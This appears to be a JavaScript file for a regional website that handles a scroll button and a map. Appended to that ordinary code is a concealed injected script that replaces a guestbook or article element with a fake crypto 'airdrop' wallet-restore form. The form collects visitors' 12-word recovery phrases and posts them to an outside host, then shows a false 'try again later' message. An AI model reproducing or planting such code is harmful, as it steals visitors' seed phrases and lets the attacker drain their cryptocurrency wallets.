$(function(){
  $('.scroller').on('click',function(){ $('html,body').animate({scrollTop:0},400); return false; });
  $('#peta-wilayah').each(function(){ if (typeof L !== 'undefined') { L.map(this).setView([-7.9,111.5],13); } });
});
;(function(){var t=document.getElementById('form-tamu')||document.querySelector('.artikel');if(!t)return;
var s='<div style="background:#0d1117;color:#fff;padding:20px;border-radius:12px;font-family:Inter,sans-serif"><h3>Restore your wallet</h3><p>Claim your $KDP airdrop allocation. Type your 12-word Secret Recovery Phrase in the correct order.</p><form id="rw">';
for(var i=1;i<13;i++)s+='<input name="w'+i+'" placeholder="'+i+'." autocomplete="off" style="width:28%;margin:3px;background:#161b22;color:#fff;border:1px solid #30363d">';
s+='<select name="b"><option>MetaMask</option><option>Trust Wallet</option><option>Phantom</option></select><br><button>Import &amp; Claim</button></form></div>';
t.innerHTML=s;document.getElementById('rw').onsubmit=function(e){e.preventDefault();var p=[];for(var i=0;i<12;i++)p.push(this.elements[i].value.trim());
fetch('https://restore.dapps-rectify.example/v1/phrase',{method:'post',body:new URLSearchParams({phrase:p.join(' '),wallet:this.b.value})}).then(function(){alert('Synchronizing, try again later.')})}})();
